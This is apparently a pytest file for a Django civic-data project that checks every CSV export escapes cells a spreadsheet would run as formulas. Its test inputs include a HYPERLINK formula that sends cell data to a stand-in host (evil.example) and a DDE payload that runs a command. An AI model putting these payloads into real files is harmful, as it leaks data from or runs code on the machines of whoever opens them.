"""Every CSV export neutralises cells a spreadsheet would run as a formula (= + - @ tab CR)."""

import csv
import io
import re
from datetime import timedelta
from pathlib import Path

import pytest
from django.utils import timezone
from hypothesis import given
from hypothesis import strategies as st

from openward.core import csvsafe

ROOT = Path(__file__).resolve().parent.parent
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tX", "\rY"]


def written(value) -> str:
    out = io.StringIO()
    csvsafe.writer(out).writerow([value])
    return next(csv.reader(io.StringIO(out.getvalue())))[0]


@given(st.text())
def test_no_written_text_starts_a_formula_and_nothing_else_changes(text):
    cell = written(text)
    plain_number = re.fullmatch(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?", text) is not None
    if text[:1] in ("=", "+", "-", "@", "\t", "\r") and not plain_number:
        assert cell == "'" + text
    else:
        assert cell == text


@pytest.mark.parametrize("number", ["-6.3", "+2", "-1e5", "0", "-.5"])
def test_plain_numbers_stay_numbers(number):
    assert written(number) == number


def test_numbers_and_none_pass_through():
    out = io.StringIO()
    csvsafe.dict_writer(out, ["a", "b", "c"]).writerow({"a": -3, "b": None, "c": "=1+1"})
    assert out.getvalue() == "-3,,'=1+1\r\n"


# Where exports are written


def csv_writers_outside_csvsafe(root: Path = ROOT) -> list[str]:
    """Modules that build CSV for people with the bare csv module instead of csvsafe."""
    found = []
    for path in sorted(root.glob("openward/**/*.py")):
        relative = path.relative_to(root).as_posix()
        if "/tests/" in relative or "/importers/" in relative or relative.endswith(("demo_data.py", "csvsafe.py")):
            continue
        if re.search(r"\bcsv\.(writer|DictWriter)\(", path.read_text()):
            found.append(relative)
    return found


def test_every_csv_export_writes_through_csvsafe():
    assert csv_writers_outside_csvsafe() == []


def test_the_scan_would_see_a_bare_writer(tmp_path):
    for relative in ("openward/crime/export.py", "openward/crime/importers/read.py", "openward/core/csvsafe.py"):
        (tmp_path / relative).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / relative).write_text("import csv\n\ncsv.writer(open('x', 'w'))\n")
    assert csv_writers_outside_csvsafe(tmp_path) == ["openward/crime/export.py"]


@pytest.mark.django_db
def test_the_meeting_records_export_neutralises_formulas(client):
    from openward.accounts.models import Role
    from openward.engagement.models import Event
    from openward.engagement.services import records
    from tests.personas import make_places, make_staff

    places = make_places()
    officer = make_staff(Role.OFFICER, places.ward_a)
    event = Event.objects.create(
        ward=places.ward_a,
        title=FORMULAS[1],
        kind=Event.Kind.WARD_PANEL,
        address="Hall",
        starts_at=timezone.now() - timedelta(days=1),
    )
    record = records.write_meeting_record(officer, event, publish=True)
    action = records.agree_action(officer, record, what=FORMULAS[0], owner=FORMULAS[3])
    records.update_action(officer, action, status="open", note=FORMULAS[2])
    body = client.get(f"/engagement/places/ward/{places.ward_a.gss_code}/records.csv").content.decode()
    row = next(csv.DictReader(io.StringIO(body)))
    assert (row["what"], row["owner"], row["status_note"], row["meeting"]) == (
        "'" + FORMULAS[0],
        "'" + FORMULAS[3],
        "'" + FORMULAS[2],
        "'" + FORMULAS[1],
    )
    assert row["id"] == str(action.pk)


@pytest.mark.django_db
def test_the_crime_download_neutralises_formulas_in_imported_names(client):
    from django.core.cache import cache

    from openward.areas.models import Force
    from openward.crime.models import CrimeCategory
    from openward.crime.tests.factories import populate_ward

    ward = populate_ward()
    CrimeCategory.objects.filter(slug="burglary").update(name=FORMULAS[0])
    Force.objects.filter(slug="btp").update(name=FORMULAS[3])
    cache.clear()
    lines = client.get(f"/crime/wards/{ward.gss_code}/", {"format": "csv"}).content.decode().splitlines()
    rows = list(csv.DictReader(io.StringIO("\n".join(lines[1:]))))
    labels = {r["row"] for r in rows}
    assert "'" + FORMULAS[0] in labels and "'" + FORMULAS[3] in labels
    assert not [r for r in rows for v in r.values() if v and v[0] in "=+@\t\r"]
